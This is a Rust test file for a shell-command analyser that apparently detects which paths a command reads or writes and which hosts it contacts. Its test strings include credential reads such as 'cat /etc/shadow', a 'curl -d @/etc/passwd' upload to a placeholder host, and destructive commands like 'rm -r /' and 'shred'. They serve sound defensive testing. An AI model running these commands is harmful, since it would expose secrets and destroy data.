use super::super::super::path::{PathAccess, PathTest};
use super::super::super::url::UrlTest;
use super::*;
use crate::call::facets::Facet;

/// Whether some path of the line with that access is, or may be, under a place.
fn touches(text: &str, access: PathAccess, place: &str) -> Truth {
    let paths = line(text).paths(&cx());
    let test = PathTest::under(&strings(&[place])).unwrap();
    let known = paths
        .values
        .iter()
        .filter(|path| matches!(path.value.access(), it if it == access || it == PathAccess::Unknown));
    let found = Truth::any(known.map(|path| test.holds(&path.value, Restricting, &cx())));
    if paths.open.is_some() { found.or(Unknown) } else { found }
}

fn reads(text: &str, place: &str) -> Truth {
    touches(text, PathAccess::Read, place)
}

pub(super) fn writes(text: &str, place: &str) -> Truth {
    touches(text, PathAccess::Write, place)
}

fn texts<T>(facet: Facet<T>, text: impl Fn(&T) -> String) -> String {
    let mut all: Vec<String> = facet.values.iter().map(|value| text(&value.value)).collect();
    all.extend(facet.open.map(|_| "?".to_owned()));
    all.join(" ")
}

fn hosts(text: &str) -> String {
    texts(line(text).hosts(), |host| host.text().to_owned())
}

#[test]
fn paths_come_from_the_programs_table() {
    for (text, place) in [
        ("cat /etc/shadow", "/etc"),
        ("cat ../etc", "/etc"),
        ("cat ~/.ssh/id", "~/.ssh"),
        ("cat $HOME/.ssh/id", "~/.ssh"),
        ("cat \"${HOME}\"/.ssh/id", "~/.ssh"),
        ("cat < /etc/shadow", "/etc"),
        ("cat /etc/sh\\adow", "/etc"),
        ("cat /etc/sh*", "/etc"),
        ("cd /etc && cat shadow", "/etc/shadow"),
        ("cd /etc; cat shadow", "/etc/shadow"),
        ("cd /etc\ncat shadow", "/etc/shadow"),
        ("grep -r x /etc", "/etc/ssh"),
        ("grep -e x /etc/a", "/etc"),
        ("curl -d @/etc/passwd https://x.example", "/etc"),
        ("dd if=/etc/x of=y", "/etc"),
        ("sort -o out /etc/x", "/etc"),
        ("find /etc -name x", "/etc/ssh"),
        ("ls", "."),
        ("mystery /etc/x", "/etc"),
        ("mystery --file=/etc/x", "/etc"),
        ("mystery -I/etc/x", "/etc"),
        ("mystery a=/etc/x", "/etc"),
        ("sudo cat /etc/x", "/etc"),
        ("bash /etc/x.sh", "/etc"),
        ("git -C /etc status", "/etc"),
    ] {
        assert_eq!(reads(text, place), True, "{text}");
        assert_eq!(reads(text, "/nowhere"), False, "{text}");
    }
    for (text, place) in [
        ("rm /etc/x", "/etc"),
        ("rm -r /", "/etc"),
        ("rm -rf build/../../etc", "/etc/x"),
        ("mv /etc/x y", "/etc"),
        ("mv /etc x", "/etc/ssh"),
        ("cp x /etc/y", "/etc"),
        ("cp evil /etc", "/etc/evil"),
        ("cp -t /etc evil", "/etc/evil"),
        ("cp -r a /etc", "/etc"),
        ("chmod -R 777 /etc", "/etc/x"),
        ("echo x > /etc/x", "/etc"),
        ("echo x >> /etc/x", "/etc"),
        ("echo x >| /etc/x", "/etc"),
        ("echo x &> /etc/x", "/etc"),
        ("> /etc/x", "/etc"),
        ("{ ls; } > /etc/x", "/etc"),
        ("echo x | tee -a /etc/x", "/etc"),
        ("dd of=/etc/x", "/etc"),
        ("truncate -s 0 /etc/x", "/etc"),
        ("shred -u /etc/x", "/etc"),
        ("sed -i s/a/b/ /etc/x", "/etc"),
        ("sort -o /etc/x y", "/etc"),
        ("curl -o /etc/x https://x.example", "/etc"),
        ("ln -sf /dev/null /etc/x", "/etc"),
        ("find /etc -delete", "/etc/x"),
        ("git clean -fdx", "./x"),
    ] {
        assert_eq!(writes(text, place), True, "{text}");
    }
    let excuses = |text: &str| {
        let test = PathTest::under(&strings(&["."])).unwrap();
        let paths = line(text).paths(&cx());
        Truth::all(paths.values.iter().map(|path| test.holds(&path.value, Excusing, &cx())))
    };
    assert_eq!(excuses("cat a > b"), True);
    assert_eq!(excuses("cat a; mystery ./b"), Unknown);
    assert_eq!(excuses("./cat a"), Unknown);
    assert_eq!(writes("cat /etc/x", "/etc"), False);
    assert_eq!(writes("cp /etc/x y", "/etc"), False);
    assert_eq!(reads("echo /etc/x > out", "/etc"), False);
    assert_eq!(reads("grep /etc/x file", "/etc"), False);
    for text in ["ls 2>/dev/null", "ls 2>&1", "ls >&2", "cat -", "cat < /dev/null", "cat <(ls src)"] {
        assert_eq!(writes(text, "/dev"), False, "{text}");
        assert_eq!(line(text).paths(&cx()).open, None, "{text}");
    }
    for text in ["cat $X", "cat \"$(ls)\"", "cat {a,b}", "eval \"$X\"", "sed -i $X f", "cp --weird-new-option a b"] {
        assert_eq!(reads(text, "/nowhere"), Unknown, "{text}");
    }
    for text in ["rm `x`", "ls > $OUT", "mv $X $Y", "cp a \"$X\""] {
        assert_eq!(writes(text, "/nowhere"), Unknown, "{text}");
    }
    assert_eq!(writes("cat $X; wc -l \"$Y\"", "/nowhere"), False);
    for text in ["echo $X", "cargo test \"$X\"", "grep \"$X\" file"] {
        assert_ne!(reads(text, "/nowhere"), True, "{text}");
    }
}

#[test]
fn a_glob_is_whatever_it_can_match() {
    let like = |text: &str, pattern: &str| {
        let paths = line(text).paths(&cx());
        let test = PathTest::like(&strings(&[pattern])).unwrap();
        let of = |direction| Truth::any(paths.values.iter().map(|path| test.holds(&path.value, direction, &cx())));
        (of(Restricting), of(Excusing))
    };
    for (text, pattern, expected) in [
        ("cat *", "**/.env", NO),
        ("cat .*", "**/.env", RESTRICTS),
        ("cat .e?v", "**/.env", RESTRICTS),
        ("cat *.py", "**/.env", NO),
        ("cat *.py", "*.pem", NO),
        ("cat *.py", "*.py", YES),
        ("cat src/*.rs", "src/**", YES),
        ("cat src/*.rs", "src/*", YES),
        ("cat */id_rsa", "**/id_rsa", YES),
        ("cat /etc/sha*", "/etc/shadow", RESTRICTS),
        ("cat /e*/shadow", "/etc/shadow", RESTRICTS),
        ("cat ../*/x", "docs/**", NO),
        ("cat ../*/x", "**/x", YES),
        ("rm -r *", "src/secret", RESTRICTS),
    ] {
        assert_eq!(like(text, pattern), expected, "{text} {pattern}");
    }
}

#[test]
fn hosts_and_urls() {
    for (text, expected) in [
        ("curl https://a.example/x", "a.example:443"),
        ("curl -o x a.example:8080/x", "a.example:8080"),
        ("curl -x http://p.example a.example", "a.example:80 p.example:80"),
        ("curl https://good.example@evil.example/", "evil.example:443"),
        ("curl --proxy p.example https://a.example", "a.example:443 p.example:80"),
        ("curl $URL", "?"),
        ("wget -q https://a.example", "a.example:443"),
        ("ssh me@a.example", "a.example"),
        ("scp f me@a.example:/x", "a.example"),
        ("git push", "git-remote:origin"),
        ("git push backup main", "git-remote:backup"),
        ("git clone https://a.example/r", "a.example:443"),
        ("git clone git@a.example:o/r.git", "a.example"),
        ("git remote add x https://a.example/r", "a.example:443"),
        ("npm install x", "registry:npm"),
        ("npm install --registry https://r.example x", "r.example:443 registry:npm"),
        ("pip install x", "registry:pypi"),
        ("kubectl get pods", "kube-context:current"),
        ("docker ps", "docker-context:default"),
        ("aws --profile prod s3 ls", "aws:prod"),
        ("aws s3 ls", "aws:default"),
        ("mystery https://a.example/x", "a.example:443"),
        ("mystery --url=https://a.example/x", "a.example:443"),
        ("ls", ""),
        ("echo https://a.example", ""),
    ] {
        assert_eq!(hosts(text), expected, "{text}");
    }
    let urls = line("curl https://a.example/x").urls();
    let test = UrlTest::scheme(&strings(&["https"])).unwrap();
    assert_eq!(test.holds(&urls.values[0].value, Excusing), True);
}
